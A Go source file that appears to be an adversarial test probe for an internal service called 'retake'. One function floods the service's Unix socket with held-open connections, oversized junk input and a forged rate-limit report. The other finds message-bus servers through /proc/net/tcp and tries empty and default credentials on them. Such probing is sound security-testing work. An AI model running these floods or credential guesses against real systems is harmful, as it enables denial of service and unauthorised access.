package main

import (
	"bufio"
	"bytes"
	"fmt"
	"net"
	"os"
	"strings"
	"time"
)

// leases floods the worker's socket with requests for leases.
func leases([]string) (string, error) {
	path := os.Getenv("RETAKE_BUDGET_SOCKET")
	var open []net.Conn
	for i := range 2000 {
		c, err := net.Dial("unix", path)
		if err != nil {
			continue
		}
		if i%2 == 0 {
			open = append(open, c)
			continue
		}
		_ = c.SetDeadline(time.Now().Add(100 * time.Millisecond))
		_, _ = c.Write(bytes.Repeat([]byte("["), 1<<17))
		_ = c.Close()
	}
	for _, c := range open {
		_ = c.Close()
	}
	answered := 0
	for range 2000 {
		c, err := net.Dial("unix", path)
		if err != nil {
			continue
		}
		_ = c.SetDeadline(time.Now().Add(time.Second))
		_, _ = c.Write([]byte(`{"op":"acquire","resource":"model.x"}` + "\n" +
			`{"op":"report","grant_id":"x","status":"rate_limited","retry_after_seconds":1e300}` + "\n"))
		if _, err := bufio.NewReader(c).ReadString('\n'); err == nil {
			answered++
		}
		_ = c.Close()
	}
	return fmt.Sprintf("%d kept open, %d answered", len(open), answered), nil
}

// remotes returns the remote addresses of connections in this network namespace. They include the bus, because the
// first process is connected to it.
func remotes() (all []string) {
	table, _ := os.ReadFile("/proc/net/tcp")
	for line := range strings.Lines(string(table)) {
		f := strings.Fields(line)
		if len(f) < 4 || f[3] != "01" {
			continue
		}
		var a, b, c, d byte
		var port uint16
		if _, err := fmt.Sscanf(f[2], "%02X%02X%02X%02X:%04X", &d, &c, &b, &a, &port); err == nil {
			all = append(all, fmt.Sprintf("%d.%d.%d.%d:%d", a, b, c, d, port))
		}
	}
	return all
}

// bus tries to use the bus with wrong or missing credentials.
func bus([]string) (string, error) {
	var out strings.Builder
	id := os.Getenv("RETAKE_ATTEMPT_ID")
	spoken := 0
	for _, at := range remotes() {
		if strings.Contains(os.Getenv("ATTACK_AT"), at) {
			continue
		}
		spoken++
		for _, connect := range []string{
			"{}", `{"user":"` + id + `","pass":""}`, `{"user":"worker"}`,
			`{"user":"director","pass":"demo"}`, `{"user":"director","pass":""}`, `{"auth_token":"` + id + `"}`,
			`{"jwt":"eyJ","sig":"x"}`,
		} {
			c, err := net.DialTimeout("tcp", at, 2*time.Second)
			if err != nil {
				fmt.Fprintf(&out, "%s: %v\n", at, err)
				break
			}
			_ = c.SetDeadline(time.Now().Add(3 * time.Second))
			_, _ = fmt.Fprintf(c, "CONNECT %s\r\nSUB > 1\r\nPUB retake.v1.worker.%s.result 2\r\n{}\r\nPING\r\n",
				connect, id)
			r := bufio.NewReader(c)
			var last string
			for {
				line, err := r.ReadString('\n')
				if err != nil {
					break
				}
				if last = strings.TrimSpace(line); last == "PONG" {
					fmt.Fprintf(&out, "through: %s accepted %s\n", at, connect)
					break
				}
			}
			_ = c.Close()
		}
	}
	fmt.Fprintf(&out, "contacted %d servers\n", spoken)
	return out.String(), nil
}
